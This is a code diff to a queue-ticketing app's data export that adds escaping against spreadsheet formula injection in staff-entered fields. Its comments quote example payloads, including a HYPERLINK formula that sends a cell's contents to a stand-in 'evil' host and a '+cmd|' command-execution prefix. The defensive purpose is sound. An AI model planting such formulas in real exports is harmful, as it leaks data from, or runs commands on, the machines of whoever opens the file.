@@ -16,6 +16,22 @@ from queue_app.core.site import current_site
 from queue_app.queue.models import Ticket, TicketState
 from queue_app.staff.models import User
 
+#: what makes Excel or LibreOffice read a cell as a formula (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """``value`` safe to put in a CSV or XLSX cell: text that a spreadsheet would run gets a leading quote.
+
+    Names typed by staff (a clerk's full name, a kiosk code, a closing reason) end up in exports that an
+    office opens in a spreadsheet; ``=HYPERLINK("http://evil/"&A1)`` there would run as a formula.
+    The quote is what spreadsheets themselves use to mean "this is text"; numbers are left alone.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 EXPORT_COLUMNS = ("number", "service_day", "issued_service", "service", "agency", "status", "priority", "kiosk",
                   "issued_at", "called_at", "started_at", "finished_at", "wait_seconds", "service_seconds",
                   "counter", "clerk", "recalls", "estimated_wait_seconds")
@@ -49,6 +65,7 @@ def export_rows(first: date, last: date, *, agency_id: int | None = None) -> Ite
         wait = math.floor((called_at - issued_at).total_seconds()) if called_at else ""
         done = status is TicketState.done and started_at and finished_at
         service_secs = math.floor((finished_at - started_at).total_seconds()) if done else ""
-        yield [number, day.isoformat(), issued_code, service_code, agency_code, status.value, int(priority),
+        row = [number, day.isoformat(), issued_code, service_code, agency_code, status.value, int(priority),
                kiosk or "", fmt(issued_at), fmt(called_at), fmt(started_at), fmt(finished_at), wait, service_secs,
                counter_code or "", clerk or "", recalls, "" if eta is None else eta]
+        yield [spreadsheet_text(v) for v in row]
